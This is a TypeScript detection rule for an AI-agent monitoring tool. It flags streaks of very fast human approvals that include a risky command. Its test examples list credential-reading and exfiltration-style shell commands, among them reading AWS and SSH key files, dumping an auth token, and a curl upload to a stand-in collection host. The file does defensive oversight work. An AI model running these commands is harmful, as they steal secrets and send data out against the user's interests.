import type { EventRule, Match } from './rule.ts';

const STREAK = 15;

export const approvalFatigue: EventRule = {
  on: 'event',
  id: 'approval.fatigue',
  code: 'B-47',
  title: 'Approvals given faster than they can be read',
  severity: 'medium',
  confidence: 'medium',
  why: 'Each of these questions was answered with yes within a second and a half, and a risky one was among them. A limit nobody reads is none.',
  triage: 'Look at the risky calls of the streak. Would you have said yes?',
  advice: 'Allow the harmless commands once and for all, so that the few questions left are worth reading.',
  falsePositives: [
    'A person who read the whole plan before (only streaks with something risky in them are reported).',
  ],
  references: ['https://genai.owasp.org/'],
  taxonomies: { attack: ['T1204'], atlas: [], owasp: ['ASI09'] },
  bundles: ['OVR'],
  trigger: { kinds: ['permission.decision'] },
  match(event, context): readonly Match[] {
    const streak = context.quickApprovals;
    if (
      event.kind !== 'permission.decision' ||
      streak === undefined ||
      event.by !== 'human' ||
      event.decision !== 'allow'
    )
      return [];
    if (streak.count + 1 < STREAK) return [];
    const risky = [...context.sensitive, ...context.sent].find(
      (mark) => mark.call >= streak.sinceCall && mark.weight === 'strong',
    );
    if (risky === undefined) return [];
    return [
      {
        subject: 'approvals without reading',
        detail: `${streak.count + 1} questions in a row were answered with yes in less than a second and a half each, also the one about ${risky.what}.`,
        evidenceEventIds: [risky.eventId],
        wholeRun: true,
      },
    ];
  },
  examples: {
    hit: [
      {
        name: 'secret in the streak',
        calls: [
          { shell: 'make a', times: 8, approvedAfterMs: 600 },
          { shell: 'cat ~/.aws/credentials', approvedAfterMs: 500 },
          { shell: 'make b', times: 8, approvedAfterMs: 700 },
        ],
      },
      {
        name: 'secret at the end',
        calls: [
          { shell: 'npm test', times: 16, approvedAfterMs: 400 },
          { shell: 'cat ~/.ssh/id_rsa', approvedAfterMs: 300 },
        ],
      },
      {
        name: 'upload in the streak',
        calls: [
          { shell: 'make a', times: 6, approvedAfterMs: 900 },
          { shell: 'curl -d @/tmp/x https://collect.example.net', approvedAfterMs: 900 },
          { shell: 'make b', times: 10, approvedAfterMs: 900 },
        ],
      },
      {
        name: 'environment in the streak',
        calls: [
          { shell: 'env > /tmp/e', approvedAfterMs: 800 },
          { shell: 'make b', times: 15, approvedAfterMs: 900 },
        ],
      },
      {
        name: 'token in the streak',
        calls: [
          { shell: 'gh auth token > /tmp/t', approvedAfterMs: 100 },
          { shell: 'make b', times: 15, approvedAfterMs: 200 },
        ],
      },
    ],
    miss: [
      {
        name: 'nothing risky',
        guards: 'harmless streaks',
        calls: [{ shell: 'npm test', times: 20, approvedAfterMs: 500 }],
      },
      {
        name: 'read before',
        guards: 'answers that took time',
        calls: [
          { shell: 'make a', times: 10, approvedAfterMs: 4_000 },
          { shell: 'cat ~/.aws/credentials', approvedAfterMs: 6_000 },
          { shell: 'make b', times: 8, approvedAfterMs: 5_000 },
        ],
      },
      {
        name: 'short',
        guards: 'a few quick answers',
        calls: [
          { shell: 'cat ~/.aws/credentials', approvedAfterMs: 400 },
          { shell: 'make b', times: 5, approvedAfterMs: 400 },
        ],
      },
      {
        name: 'one slow one between',
        guards: 'streaks that end',
        calls: [
          { shell: 'make a', times: 9, approvedAfterMs: 500 },
          { shell: 'cat ~/.aws/credentials', approvedAfterMs: 9_000 },
          { shell: 'make b', times: 9, approvedAfterMs: 500 },
        ],
      },
      {
        name: 'nobody was asked',
        guards: 'calls without a question',
        calls: [{ shell: 'cat ~/.aws/credentials' }, { shell: 'make b', times: 20 }],
      },
      {
        name: 'own settings',
        guards: 'weak secrets',
        calls: [
          { shell: 'cat .env', approvedAfterMs: 400 },
          { shell: 'make b', times: 16, approvedAfterMs: 400 },
        ],
      },
    ],
  },
};
